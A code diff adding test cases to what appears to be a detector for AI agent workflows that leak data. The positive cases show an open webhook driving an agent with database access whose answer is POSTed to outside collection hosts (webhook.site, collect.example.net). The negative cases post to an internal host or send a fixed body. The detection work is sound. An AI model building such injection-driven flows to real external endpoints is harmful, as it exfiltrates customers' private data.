@@ -40,8 +40,31 @@ export const cases: RuleCases = {
       [openHook(), agent('Help: {{ input.body.text }}'), localBrain(), customers, mail('{{ input.body.email }}', '{{ input.answer }}')],
       ['hook > agent', 'agent > mail', 'brain -model> agent', 'sql -tool> agent'],
     ),
+    // What goes out is the body of a request: to a place that everybody reads, and to a server of which nothing is known.
+    ...['https://webhook.site/4f0c', 'https://collect.example.net/in'].map((url) =>
+      flow(
+        [openHook(), agent('Help: {{ input.body.text }}'), localBrain(), customers, post(url, '{ "text": "{{ input.answer }}" }')],
+        ['hook > agent', 'agent > call', 'brain -model> agent', 'sql -tool> agent'],
+      ),
+    ),
   ],
   silent: [
+    // What goes out by a body stays in the house.
+    flow(
+      [
+        openHook(),
+        agent('Help: {{ input.body.text }}'),
+        localBrain(),
+        customers,
+        post('https://desk.corp/in', '{ "text": "{{ input.answer }}" }'),
+      ],
+      ['hook > agent', 'agent > call', 'brain -model> agent', 'sql -tool> agent'],
+    ),
+    // It is the same each time, whatever the model says.
+    flow(
+      [openHook(), agent('Help: {{ input.body.text }}'), localBrain(), customers, post('https://webhook.site/4f0c', '{ "text": "done" }')],
+      ['hook > agent', 'agent > call', 'brain -model> agent', 'sql -tool> agent'],
+    ),
     // Nobody from outside writes to it.
     flow(
       [manual(), agent('Sum up the customers'), localBrain(), customers, mail('boss@example.com', 'x')],
